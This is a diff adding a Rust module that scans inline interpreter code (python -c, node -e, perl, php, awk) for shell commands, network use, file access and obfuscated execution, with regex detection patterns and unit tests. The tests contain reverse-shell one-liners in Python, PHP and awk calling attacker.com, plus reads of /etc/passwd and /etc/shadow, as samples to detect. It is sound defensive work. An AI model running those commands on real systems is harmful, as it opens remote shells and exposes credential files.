@@ -1,0 +1,434 @@
+//! Inspection of inline interpreter code (`python -c`, `node -e`, `perl -e`, `ruby -e`,
+//! `php -r`, awk programs, `jrunscript -e`, `m4`).
+//!
+//! This is not a parser for six languages: it looks for the calls that matter —
+//! processes, network, file access, dynamic code — and pulls out their literal
+//! arguments. A command string passed to `os.system("…")` is analysed as shell; a
+//! process started with a computed command is opaque (asked about); code decoded at run
+//! time and executed is obfuscated. Code with none of these calls is inert: it computes
+//! and prints.
+
+use std::sync::OnceLock;
+
+use regex::Regex;
+
+/// What a code string does.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Finding {
+    /// Runs this shell command line.
+    Shell(String),
+    /// Runs a command computed at run time.
+    OpaqueProcess(String),
+    /// Reads this file.
+    Read(String),
+    /// Writes this file.
+    Write(String),
+    /// Deletes this file.
+    Delete(String),
+    /// Connects to the network: the URLs or hosts found (empty if computed), and whether
+    /// data is sent.
+    Network {
+        /// URLs or `host:port` literals found in the code.
+        targets: Vec<String>,
+        /// Whether the code sends data (posts, writes to a socket, uploads).
+        sends: bool,
+    },
+    /// Listens on a port.
+    Listen,
+    /// Executes code that is decoded or built at run time.
+    Obfuscated(String),
+    /// Loads native code.
+    LoadsLibrary(String),
+}
+
+/// The language of a code string.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Lang {
+    /// Python.
+    Python,
+    /// JavaScript (node, deno, bun, jrunscript).
+    JavaScript,
+    /// Perl.
+    Perl,
+    /// Ruby.
+    Ruby,
+    /// PHP.
+    Php,
+    /// awk.
+    Awk,
+    /// m4.
+    M4,
+    /// Something else: only generic indicators are used.
+    Other,
+}
+
+impl Lang {
+    /// The language of an interpreter program name.
+    pub fn of_program(name: &str) -> Lang {
+        let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+        match base {
+            "python" | "pypy" | "ipython" | "bpython" => Lang::Python,
+            "node" | "nodejs" | "deno" | "bun" | "jrunscript" | "qjs" | "osascript" => {
+                Lang::JavaScript
+            }
+            "perl" => Lang::Perl,
+            "ruby" | "irb" => Lang::Ruby,
+            "php" => Lang::Php,
+            "awk" | "gawk" | "mawk" | "nawk" => Lang::Awk,
+            "m4" => Lang::M4,
+            _ => Lang::Other,
+        }
+    }
+}
+
+struct Patterns {
+    /// Calls that run a shell command given as the first string literal.
+    shell_call: Regex,
+    /// Calls that start processes without a literal we can read.
+    process: Regex,
+    network: Regex,
+    sends: Regex,
+    listen: Regex,
+    dynamic_code: Regex,
+    decode: Regex,
+    open_call: Regex,
+    write_call: Regex,
+    read_call: Regex,
+    delete_call: Regex,
+    url: Regex,
+    library: Regex,
+    backtick: Regex,
+}
+
+fn patterns() -> &'static Patterns {
+    static P: OnceLock<Patterns> = OnceLock::new();
+    P.get_or_init(|| {
+        let r = |s: &str| Regex::new(s).expect("inspector patterns compile");
+        Patterns {
+            shell_call: r(r#"(?x)
+                (?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)
+                 |commands\.getoutput|pty\.spawn|shell_exec|passthru|proc_open|popen|execSync|spawnSync|execFileSync|exec
+                 |system|syscmd|esyscmd|Runtime\.getRuntime\(\)\.exec|%x)
+                \s*\(\s*(?:\[\s*)?(?:f|r|b)?
+                (?:"((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)')"#),
+            process: r(r"(?x)(?:\b(?:os\.system|os\.popen|os\.exec[lv]p?e?|os\.spawn\w*|subprocess\.\w+|pty\.spawn|commands\.getoutput
+                |shell_exec|passthru|proc_open|popen|pcntl_exec|execSync|spawnSync|execFileSync|execFile|system|syscmd|esyscmd
+                |IO\.popen|Kernel\.exec|Runtime\.getRuntime\(\)\.exec)\s*\(|\bProcessBuilder\b|child_process['\x22]\s*\)\s*\.\s*(?:exec|spawn)\w*\s*\()"),
+            network: r(r"(?xi)\b(?:socket|urllib|urlopen|http\.client|httplib|requests\.|httpx|aiohttp|ftplib|smtplib|telnetlib
+                |paramiko|xmlrpc|websocket|fsockopen|stream_socket_client|curl_init|file_get_contents\s*\(\s*['\x22]https?:
+                |net\.connect|net\.Socket|require\(\s*['\x22](?:https?|net|dgram|tls)['\x22]\s*\)|fetch\s*\(|XMLHttpRequest
+                |IO::Socket|LWP|HTTP::Tiny|Net::HTTP|TCPSocket|UDPSocket|open-uri|/inet/tcp|/inet/udp|/dev/tcp/|/dev/udp/
+                |java\.net|URL\s*\(|cp\s*\(\s*['\x22]https?:)"),
+            sends: r(r"(?xi)\b(?:sendall|send\s*\(|sendto|\.post\s*\(|\.put\s*\(|method\s*=\s*['\x22]post|data\s*=|upload
+                |write\s*\(|print\s*[^;]*\|&|printf\s*[^;]*\|&|fwrite|\.request\s*\()"),
+            listen: r(r"(?xi)\b(?:\.bind\s*\(|\.listen\s*\(|createServer|http\.server|SimpleHTTPServer|socketserver|TCPServer
+                |stream_socket_server|/inet/tcp/\d+/0/0)"),
+            dynamic_code: r(r"(?x)\b(?:eval|exec|compile|__import__|Function|create_function|instance_eval|class_eval|assert)\s*\("),
+            decode: r(r"(?xi)(?:b64decode|base64|decodebytes|fromhex|unhexlify|atob\s*\(|Buffer\.from\s*\([^)]*['\x22](?:base64|hex)
+                |base64_decode|hex2bin|str_rot13|gzinflate|gzuncompress|zlib\.decompress|codecs\.decode|unpack\s*\(\s*['\x22][mH])"),
+            open_call: r(r#"(?x)\b(?:open|fopen|io\.open|File\.open|codecs\.open)\s*\(\s*(?:f|r)?(?:"([^"\\]*)"|'([^'\\]*)')\s*(?:,\s*(?:mode\s*=\s*)?(?:"([^"]*)"|'([^']*)'))?"#),
+            write_call: r(r#"(?x)\b(?:file_put_contents|writeFileSync|appendFileSync|writeFile|File\.write|write_text|write_bytes|shutil\.copy\w*|shutil\.move|os\.rename|os\.replace|copyFileSync)\s*\(\s*(?:[^,()]*,\s*)?(?:"([^"\\]*)"|'([^'\\]*)')"#),
+            read_call: r(r#"(?x)\b(?:file_get_contents|readFileSync|readFile|File\.read|IO\.read|read_text|read_bytes|file|readfile|Path)\s*\(\s*(?:"([^"\\]*)"|'([^'\\]*)')"#),
+            delete_call: r(r#"(?x)\b(?:os\.remove|os\.unlink|os\.rmdir|shutil\.rmtree|unlinkSync|rmSync|rmdirSync|unlink|File\.delete|FileUtils\.rm_r?f?|rmtree)\s*\(\s*(?:"([^"\\]*)"|'([^'\\]*)')"#),
+            url: r(r#"(?i)\b(?:https?|ftp|wss?)://[A-Za-z0-9._~:%@!$&*+,;=/?#\[\]-]+"#),
+            library: r(r"(?xi)\b(?:ctypes|cdll|LoadLibrary|dlopen|ffi\.|DynaLoader|Fiddle|System\.load|java\.lang\.System\.loadLibrary)"),
+            backtick: r(r"`([^`]+)`"),
+        }
+    })
+}
+
+fn first_group(c: &regex::Captures<'_>) -> Option<String> {
+    (1..c.len())
+        .find_map(|i| c.get(i))
+        .map(|m| m.as_str().to_owned())
+}
+
+/// Unescapes the common backslash escapes of a string literal.
+fn unescape(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    let mut it = s.chars();
+    while let Some(c) = it.next() {
+        if c == '\\' {
+            match it.next() {
+                Some('n') => out.push('\n'),
+                Some('t') => out.push('\t'),
+                Some(other) => out.push(other),
+                None => out.push('\\'),
+            }
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+/// Inspects a code string.
+pub fn inspect(lang: Lang, code: &str) -> Vec<Finding> {
+    let p = patterns();
+    let mut out = Vec::new();
+    let code = if code.len() > 64 * 1024 {
+        &code[..code.floor_char_boundary(64 * 1024)]
+    } else {
+        code
+    };
+
+    // Processes: literal commands are analysed as shell; anything else is opaque.
+    let mut literal_cmds = 0;
+    for c in p.shell_call.captures_iter(code) {
+        let whole = c.get(0).map(|m| m.as_str()).unwrap_or("");
+        // Python's exec() runs Python, not a command (dynamic code is handled below).
+        if lang == Lang::Python && whole.trim_start().starts_with("exec") {
+            continue;
+        }
+        if let Some(cmd) = first_group(&c) {
+            let cmd = unescape(&cmd);
+            // subprocess.run(["ls", "-a"]) lists argv: join the literal words.
+            let whole = c.get(0).map(|m| m.as_str()).unwrap_or("");
+            let line = if whole.contains('[') {
+                let tail = &code[c.get(0).map_or(0, |m| m.start())..];
+                let end = tail.find(']').unwrap_or(tail.len());
+                tail[..end]
+                    .split(['"', '\''])
+                    .skip(1)
+                    .step_by(2)
+                    .map(|w| shell_quote(&unescape(w)))
+                    .collect::<Vec<_>>()
+                    .join(" ")
+            } else {
+                cmd
+            };
+            out.push(Finding::Shell(line));
+            literal_cmds += 1;
+        }
+    }
+    if matches!(lang, Lang::Perl | Lang::Ruby | Lang::Php) {
+        for c in p.backtick.captures_iter(code) {
+            if let Some(cmd) = c.get(1) {
+                out.push(Finding::Shell(cmd.as_str().to_owned()));
+                literal_cmds += 1;
+            }
+        }
+    }
+    let process_calls = p.process.find_iter(code).count();
+    if process_calls > literal_cmds {
+        out.push(Finding::OpaqueProcess(format!(
+            "{lang:?} code starts a process with a command built at run time"
+        )));
+    }
+
+    // Dynamic code: decoded payloads are obfuscation; other eval/exec is opaque.
+    let dynamic = p.dynamic_code.is_match(code) && lang != Lang::Awk;
+    if dynamic && p.decode.is_match(code) {
+        out.push(Finding::Obfuscated(format!(
+            "{lang:?} code decodes a payload and executes it"
+        )));
+    } else if dynamic && lang == Lang::Python && code.contains("__import__") {
+        out.push(Finding::OpaqueProcess(
+            "python code imports modules by computed name".into(),
+        ));
+    }
+    if p.library.is_match(code) {
+        out.push(Finding::LoadsLibrary(format!(
+            "{lang:?} code loads native code"
+        )));
+    }
+
+    // Network.
+    if p.network.is_match(code) || (lang == Lang::Awk && code.contains("/inet/")) {
+        let mut targets: Vec<String> = p
+            .url
+            .find_iter(code)
+            .map(|m| m.as_str().to_owned())
+            .collect();
+        for host in host_literals(code) {
+            targets.push(host);
+        }
+        targets.dedup();
+        let sends = p.sends.is_match(code)
+            || out
+                .iter()
+                .any(|f| matches!(f, Finding::Shell(_) | Finding::OpaqueProcess(_)));
+        out.push(Finding::Network { targets, sends });
+    }
+    if p.listen.is_match(code) {
+        out.push(Finding::Listen);
+    }
+
+    // Files.
+    for c in p.open_call.captures_iter(code) {
+        let path = c.get(1).or(c.get(2)).map(|m| m.as_str().to_owned());
+        let mode = c.get(3).or(c.get(4)).map(|m| m.as_str()).unwrap_or("r");
+        if let Some(path) = path.filter(|p| !p.is_empty()) {
+            if mode.contains(['w', 'a', 'x', '+', '>']) {
+                out.push(Finding::Write(path));
+            } else {
+                out.push(Finding::Read(path));
+            }
+        }
+    }
+    for c in p.write_call.captures_iter(code) {
+        if let Some(path) = first_group(&c).filter(|p| !p.is_empty()) {
+            out.push(Finding::Write(path));
+        }
+    }
+    for c in p.read_call.captures_iter(code) {
+        if let Some(path) = first_group(&c)
+            .filter(|p| p.starts_with('/') || p.starts_with('~') || p.starts_with('.'))
+        {
+            out.push(Finding::Read(path));
+        }
+    }
+    for c in p.delete_call.captures_iter(code) {
+        if let Some(path) = first_group(&c).filter(|p| !p.is_empty()) {
+            out.push(Finding::Delete(path));
+        }
+    }
+    // Perl's open(F, ">file") / open(F, "<file").
+    if lang == Lang::Perl {
+        static PERL_OPEN: OnceLock<Regex> = OnceLock::new();
+        let re = PERL_OPEN.get_or_init(|| {
+            Regex::new(r#"open\s*\(?\s*\$?\w+\s*,\s*(?:"|')\s*(>>?|<|\+<)?\s*([^"'|]+)(?:"|')"#)
+                .expect("compiles")
+        });
+        for c in re.captures_iter(code) {
+            let path = c
+                .get(2)
+                .map(|m| m.as_str().trim().to_owned())
+                .unwrap_or_default();
+            match c.get(1).map(|m| m.as_str()) {
+                Some(">") | Some(">>") | Some("+<") => out.push(Finding::Write(path)),
+                _ => out.push(Finding::Read(path)),
+            }
+        }
+    }
+    // awk: getline from a file, print to a file, pipes to commands.
+    if lang == Lang::Awk {
+        static AWK: OnceLock<(Regex, Regex)> = OnceLock::new();
+        let (to_file, pipe) = AWK.get_or_init(|| {
+            (
+                Regex::new(r#"(?:print|printf)[^;}]*?(>>?)\s*"([^"]+)""#).expect("compiles"),
+                Regex::new(r#""([^"]+)"\s*\|\s*getline|\|\s*"([^"]+)""#).expect("compiles"),
+            )
+        });
+        for c in to_file.captures_iter(code) {
+            if let Some(p) = c.get(2) {
+                if !p.as_str().starts_with("/inet/") && !p.as_str().starts_with("/dev/std") {
+                    out.push(Finding::Write(p.as_str().to_owned()));
+                }
+            }
+        }
+        for c in pipe.captures_iter(code) {
+            if let Some(cmd) = c.get(1).or(c.get(2)) {
+                out.push(Finding::Shell(cmd.as_str().to_owned()));
+            }
+        }
+    }
+    out
+}
+
+/// `"host", port` pairs such as `connect(("10.0.0.1", 4444))` or `fsockopen("h", 1)`.
+fn host_literals(code: &str) -> Vec<String> {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    let re = RE.get_or_init(|| {
+        Regex::new(r#"(?:"|')([A-Za-z0-9][A-Za-z0-9.-]*\.[A-Za-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}|localhost)(?:"|')\s*,\s*(\d{1,5})"#)
+            .expect("compiles")
+    });
+    re.captures_iter(code)
+        .filter_map(|c| Some(format!("{}:{}", c.get(1)?.as_str(), c.get(2)?.as_str())))
+        .collect()
+}
+
+fn shell_quote(s: &str) -> String {
+    if !s.is_empty()
+        && s.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"/._-+=:@,".contains(&b))
+    {
+        return s.to_owned();
+    }
+    format!("'{}'", s.replace('\'', r"'\''"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn inert_code_has_no_findings() {
+        for code in [
+            "import sys; print(sys.version)",
+            "from decimal import Decimal; print(Decimal('0').as_tuple())",
+            "import numpy as np; print(np.__version__)",
+            "print('xn--p8s937b'.encode('idna').decode('ascii'))",
+        ] {
+            assert_eq!(inspect(Lang::Python, code), vec![], "{code}");
+        }
+    }
+
+    #[test]
+    fn literal_commands_files_and_network_are_found() {
+        assert_eq!(
+            inspect(Lang::Python, "import os; os.system('ls -a /etc/')"),
+            vec![Finding::Shell("ls -a /etc/".into())]
+        );
+        assert_eq!(
+            inspect(
+                Lang::Python,
+                "import subprocess; subprocess.run(['cat', '/etc/passwd'])"
+            ),
+            vec![Finding::Shell("cat /etc/passwd".into())]
+        );
+        assert_eq!(
+            inspect(Lang::Python, "print(open('/etc/shadow').read())"),
+            vec![Finding::Read("/etc/shadow".into())]
+        );
+        assert_eq!(
+            inspect(Lang::Python, "open('out.txt', 'w').write('x')"),
+            vec![Finding::Write("out.txt".into())]
+        );
+        let rev = inspect(
+            Lang::Python,
+            "import socket,os;s=socket.socket();s.connect(('attacker.com',4444));os.dup2(s.fileno(),0)",
+        );
+        assert!(rev.contains(&Finding::Network { targets: vec!["attacker.com:4444".into()], sends: false }) || rev.iter().any(|f| matches!(f, Finding::Network { targets, .. } if targets == &["attacker.com:4444"])), "{rev:?}");
+        assert!(
+            inspect(
+                Lang::Php,
+                "$sock=fsockopen(\"attacker.com\",12345);exec(\"/bin/sh -i 0<&3 1>&3 2>&3\");"
+            )
+            .iter()
+            .any(|f| matches!(f, Finding::Network { .. }))
+        );
+        assert!(
+            inspect(
+                Lang::Awk,
+                "BEGIN { s = \"/inet/tcp/0/attacker.com/12345\"; }"
+            )
+            .iter()
+            .any(|f| matches!(f, Finding::Network { .. }))
+        );
+        assert_eq!(
+            inspect(Lang::Php, "echo shell_exec(\"/path/to/command\");"),
+            vec![Finding::Shell("/path/to/command".into())]
+        );
+    }
+
+    #[test]
+    fn decoded_payloads_are_obfuscation() {
+        let f = inspect(
+            Lang::Python,
+            "import base64;exec(base64.b64decode('cHJpbnQoMSk='))",
+        );
+        assert!(
+            f.iter().any(|x| matches!(x, Finding::Obfuscated(_))),
+            "{f:?}"
+        );
+        let f = inspect(
+            Lang::Python,
+            "import subprocess; cmd = input(); subprocess.run(cmd, shell=True)",
+        );
+        assert!(
+            f.iter().any(|x| matches!(x, Finding::OpaqueProcess(_))),
+            "{f:?}"
+        );
+    }
+}
